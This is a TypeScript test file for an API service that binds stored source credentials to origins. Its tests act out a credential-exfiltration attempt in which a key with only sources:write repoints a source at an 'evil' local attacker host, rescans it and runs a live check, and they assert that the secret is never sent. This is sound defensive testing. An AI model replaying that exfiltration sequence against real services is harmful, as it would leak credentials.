/**
 * A stored source credential is bound to the origins it may be sent to (README "Sources",
 * credentials), through the HTTP API against local servers: the exfiltration by a key with
 * `sources:write` alone (point the source at its own document whose server is its own host,
 * rescan, run a live check) ends with a receiver that never sees the secret; a `url` change
 * clears the credential; a rescan that moves the described server to another origin clears it,
 * one that keeps the origin keeps it; and the live check refuses a stored credential bound to
 * another origin.
 */
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { RESERVED_HEADERS } from '../src/areas/sources/credentials.js';
import { startTestServer, type TestServer } from './helpers/server.js';
import type { Ingestion, LiveCheck, Usage } from './helpers/answers.js';

const S = '/api/v1/sources';
const RATE = { RATE_LIMIT_BURST: '1000000', RATE_LIMIT_PER_MINUTE: '1000000' };
const SECRET = 'admin-set-secret-4f9a1c';
const URL_CHANGED = "the credential was cleared because the source's url changed; set it again";
const SERVERS_CHANGED = "the credential was cleared because a rescan found the source's server URL at another origin; set it again";
const cleared = (lastError: string) => ({ configured: false, hasSecret: false, lastError, lastVerifiedAt: null, status: 'not_configured', type: null });
const SET = { configured: true, hasSecret: true, lastError: null, lastVerifiedAt: null, status: 'unverified', type: 'bearer' };

// ---------------------------------------------------------------------------------------------
// Local servers: each serves an OpenAPI document at /spec.json (servers: `specServer()`) and
// records every request with its headers.

interface Seen { url: string; headers: http.IncomingHttpHeaders; body: string }
interface Local { origin: string; seen: Seen[]; specServer: () => string; close(): Promise<void> }
const locals: Local[] = [];

function openapi(server: string): string {
  const op = { summary: 'Ping', responses: { 200: { description: 'ok' } } };
  return JSON.stringify({ openapi: '3.0.3', info: { title: 'Ping API', version: '1' }, servers: [{ url: server }], paths: { '/ping': { get: op } } });
}

async function serve(): Promise<Local> {
  const server = http.createServer();
  const local: Local = {
    origin: '', seen: [], specServer: () => `${local.origin}/v1`,
    close: () => new Promise<void>((resolve) => { server.closeAllConnections(); server.close(() => resolve()); }),
  };
  server.on('request', (req, res) => {
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('end', () => {
      local.seen.push({ url: req.url ?? '', headers: req.headers, body: Buffer.concat(chunks).toString('utf8') });
      const path = new URL(req.url ?? '/', 'http://x').pathname;
      res.writeHead(200, { 'content-type': 'application/json' });
      res.end(path === '/spec.json' ? openapi(local.specServer()) : '{"pong":true}');
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  local.origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  locals.push(local);
  return local;
}

/** Whether any request `l` received carries `secret` (headers or body, any case). */
const received = (l: Local, secret: string): boolean =>
  l.seen.some((x) => `${JSON.stringify(x.headers)}${x.body}`.toLowerCase().includes(secret.toLowerCase()));

let srv: TestServer;
let api: Local; // the customer's API, where the admin's spec and its server live
let evil: Local; // the attacker's host
before(async () => {
  srv = await startTestServer({ env: { ...RATE, SOURCE_FETCH_ALLOW_PRIVATE: 'true' } });
  api = await serve();
  evil = await serve();
});
after(async () => {
  await srv?.close();
  await Promise.all(locals.map((l) => l.close()));
});

/** Creates a source from `url`, sets a bearer credential with the admin key; returns its id and its GET /ping endpoint id. */
async function sourceWithSecret(url: string): Promise<{ id: string; ping: string }> {
  const r = await srv.call<Ingestion>('POST', S, { body: { url } });
  assert.equal(r.status, 201, r.text);
  assert.equal(r.body.source.status, 'ready', r.text);
  const id = r.body.source.id as string;
  const set = await srv.call<Ingestion>('PATCH', `${S}/${id}`, { body: { auth: { type: 'bearer', secret: SECRET } } });
  assert.equal(set.status, 200, set.text);
  assert.deepEqual(set.body.source.auth, SET);
  return { id, ping: pingOf(r.body) };
}
const pingOf = (result: any): string => result.endpoints.find((e: any) => e.path === '/ping').id;
const authOf = async (id: string) => (await srv.call<Ingestion>('GET', `${S}/${id}`)).body.source.auth;

describe('the exfiltration by a sources:write key', () => {
  test('PATCH url to its own document, rescan, live check: its host receives no secret', async () => {
    const { id, ping } = await sourceWithSecret(`${api.origin}/spec.json?attack`);
    const attacker = await srv.newKey({ scopes: 'sources:write' });

    const patched = await srv.call<Ingestion>('PATCH', `${S}/${id}`, { key: attacker, body: { url: `${evil.origin}/spec.json` } });
    assert.equal(patched.status, 200, patched.text);
    assert.deepEqual(patched.body.source.auth, cleared(URL_CHANGED));

    const rescanned = await srv.call<Ingestion>('POST', `${S}/${id}/rescan`, { key: attacker });
    assert.equal(rescanned.status, 200, rescanned.text);
    assert.equal(rescanned.body.source.status, 'ready');
    const evilPing = pingOf(rescanned.body);
    assert.notEqual(evilPing, ping);

    evil.seen.length = 0;
    const checked = await srv.call<LiveCheck>('POST', `${S}/${id}/checks`, { key: attacker, body: { endpointId: evilPing } });
    assert.equal(checked.status, 200, checked.text);
    assert.equal(checked.body.status, 200);
    assert.equal(checked.body.url, `${evil.origin}/v1/ping`);
    assert.deepEqual(evil.seen.map((x) => [x.url, x.headers.authorization]), [['/v1/ping', undefined]]);
    assert.equal(received(evil, SECRET), false);
    assert.deepEqual(await authOf(id), { ...cleared(URL_CHANGED), lastVerifiedAt: new Date(srv.clock.now()).toISOString() });
  });
});

describe('a url change clears the credential', () => {
  test('PATCH url to another URL: cleared with lastError, and the check sends nothing secret', async () => {
    const { id } = await sourceWithSecret(`${api.origin}/spec.json?patch`);
    const r = await srv.call<Ingestion>('PATCH', `${S}/${id}`, { body: { url: `${api.origin}/spec.json?patch-moved` } });
    assert.equal(r.status, 200, r.text);
    // Even a url on the same origin: the document it leads to may name another server.
    assert.deepEqual(r.body.source.auth, cleared(URL_CHANGED));
    assert.deepEqual(await authOf(id), cleared(URL_CHANGED));
    // Setting it again works, bound anew.
    const again = await srv.call<Ingestion>('PATCH', `${S}/${id}`, { body: { auth: { type: 'bearer', secret: SECRET } } });
    assert.deepEqual(again.body.source.auth, SET);
  });

  test('PATCH url to the same URL (after normalisation), or other fields: the credential stays', async () => {
    const { id } = await sourceWithSecret(`${api.origin}/spec.json?same`);
    const r = await srv.call<Ingestion>('PATCH', `${S}/${id}`, { body: { url: `${api.origin.toUpperCase().replace('HTTP', 'http')}/spec.json?same#x`, name: 'Renamed' } });
    assert.equal(r.status, 200, r.text);
    assert.deepEqual(r.body.source.auth, SET);
  });

  test('PATCH url with auth in the same request: the new credential is kept', async () => {
    const { id } = await sourceWithSecret(`${api.origin}/spec.json?both`);
    const r = await srv.call<Ingestion>('PATCH', `${S}/${id}`, { body: { url: `${api.origin}/spec.json?both-moved`, auth: { type: 'bearer', secret: 'another-secret-8c2e' } } });
    assert.equal(r.status, 200, r.text);
    assert.deepEqual(r.body.source.auth, SET);
  });
});

describe('a rescan that moves the described server clears the credential', () => {
  test('same origin (another path): kept and still sent; another origin: cleared, and the new server gets no secret', async () => {
    const spec = await serve(); // serves the document; its server URL is switched between scans
    spec.specServer = () => `${api.origin}/v1`;
    const { id } = await sourceWithSecret(`${spec.origin}/spec.json`);

    spec.specServer = () => `${api.origin}/v2`;
    const same = await srv.call<Ingestion>('POST', `${S}/${id}/rescan`);
    assert.equal(same.status, 200, same.text);
    assert.deepEqual(same.body.source.auth, SET);
    api.seen.length = 0;
    const check = await srv.call<LiveCheck>('POST', `${S}/${id}/checks`, { body: { endpointId: pingOf(same.body) } });
    assert.equal(check.body.url, `${api.origin}/v2/ping`);
    assert.deepEqual(api.seen.map((x) => x.headers.authorization), [`Bearer ${SECRET}`]);

    spec.specServer = () => `${evil.origin}/v1`;
    const moved = await srv.call<Ingestion>('POST', `${S}/${id}/rescan`);
    assert.equal(moved.status, 200, moved.text);
    assert.equal(moved.body.source.status, 'ready');
    assert.deepEqual(moved.body.source.auth, cleared(SERVERS_CHANGED));
    evil.seen.length = 0;
    const c = await srv.call<LiveCheck>('POST', `${S}/${id}/checks`, { body: { endpointId: pingOf(moved.body) } });
    assert.equal(c.body.url, `${evil.origin}/v1/ping`);
    assert.deepEqual(evil.seen.map((x) => x.headers.authorization), [undefined]);
    assert.equal(received(evil, SECRET), false);

    // Moving back does not bring it back.
    spec.specServer = () => `${api.origin}/v1`;
    const back = await srv.call<Ingestion>('POST', `${S}/${id}/rescan`);
    assert.deepEqual(back.body.source.auth, { ...cleared(SERVERS_CHANGED), lastVerifiedAt: new Date(srv.clock.now()).toISOString() });
  });

  test('a failed rescan (nothing new ingested) keeps the credential', async () => {
    const spec = await serve();
    const { id } = await sourceWithSecret(`${spec.origin}/spec.json`);
    await spec.close(); // the rescan's fetch is refused
    const r = await srv.call<Ingestion>('POST', `${S}/${id}/rescan`);
    assert.equal(r.status, 200, r.text);
    assert.equal(r.body.source.status, 'failed');
    assert.deepEqual(r.body.source.auth, SET);
  });

  test('a relative server URL is bound to the source url\'s origin', async () => {
    const spec = await serve();
    spec.specServer = () => '/v1';
    const { id, ping } = await sourceWithSecret(`${spec.origin}/spec.json`);
    spec.seen.length = 0;
    const r = await srv.call<LiveCheck>('POST', `${S}/${id}/checks`, { body: { endpointId: ping } });
    assert.equal(r.body.url, `${spec.origin}/v1/ping`);
    assert.deepEqual(spec.seen.map((x) => x.headers.authorization), [`Bearer ${SECRET}`]);
  });
});

describe('the live check refuses a credential bound to another origin', () => {
  for (const [name, origins] of [['bound elsewhere', ['http://example.com']], ['stored before origins were recorded', undefined]] as const) {
    test(`a stored credential ${name}: 400, nothing sent, not counted`, async () => {
      const { id, ping } = await sourceWithSecret(`${api.origin}/spec.json?stored-${origins ? 'elsewhere' : 'legacy'}`);
      // The record as another code path or an older version could have left it.
      const ws = srv.store.workspace(srv.workspaceId)!;
      const rec = ws.get('source', id)!;
      const credential = { ...rec.credential! };
      if (origins) credential.origins = [...origins]; else delete credential.origins;
      const tx = ws.db.begin();
      tx.put('source', id, { ...rec, credential });
      await ws.db.commit(tx);

      api.seen.length = 0;
      const counted = (await srv.call<Usage>('GET', '/api/v1/usage')).body.liveApiChecks;
      const r = await srv.call('POST', `${S}/${id}/checks`, { body: { endpointId: ping } });
      assert.equal(r.status, 400, r.text);
      assert.deepEqual(r.body, {
        code: 'invalid_request',
        error: `Request body is invalid: the source's credential may not be sent to ${api.origin}: it is bound to the origin the source described when it was set; set auth again.`,
      });
      assert.equal(api.seen.length, 0);
      assert.equal((await srv.call<Usage>('GET', '/api/v1/usage')).body.liveApiChecks, counted);
    });
  }
});

describe('reserved header names: one list for setting a credential and for sending it', () => {
  test('the list is the 13 headers that shape a request', () => {
    assert.deepEqual([...RESERVED_HEADERS].sort(), [
      'accept-encoding', 'connection', 'content-encoding', 'content-length', 'content-type', 'expect', 'host',
      'keep-alive', 'proxy-connection', 'te', 'trailer', 'transfer-encoding', 'upgrade',
    ]);
  });

  test('PATCH refuses every one of them as auth.headerName, in any case', async () => {
    const { id } = await sourceWithSecret(`${api.origin}/spec.json?reserved-patch`);
    for (const name of RESERVED_HEADERS) {
      const headerName = name.toUpperCase();
      const r = await srv.call('PATCH', `${S}/${id}`, { body: { auth: { type: 'header', headerName, secret: SECRET } } });
      assert.equal(r.status, 400, `${name}: ${r.text}`);
      assert.deepEqual(r.body, { code: 'invalid_request', error: `Request body is invalid: auth.headerName ${headerName} cannot carry a credential.` });
    }
  });

  test('a stored header credential naming one of them (as an older version could have left it): the live check refuses it, nothing sent', async () => {
    const { id, ping } = await sourceWithSecret(`${api.origin}/spec.json?reserved-stored`);
    const ws = srv.store.workspace(srv.workspaceId)!;
    for (const name of RESERVED_HEADERS) {
      const rec = ws.get('source', id)!;
      const credential = { ...rec.credential!, type: 'header' as const, headerName: name };
      const tx = ws.db.begin();
      tx.put('source', id, { ...rec, credential });
      await ws.db.commit(tx);
      api.seen.length = 0;
      const r = await srv.call('POST', `${S}/${id}/checks`, { body: { endpointId: ping } });
      assert.equal(r.status, 400, `${name}: ${r.text}`);
      assert.deepEqual(r.body, {
        code: 'invalid_request',
        error: `Request body is invalid: the credential header name ${name} cannot be used for a live check; set auth again with another headerName.`,
      });
      assert.equal(api.seen.length, 0, name);
    }
  });
});
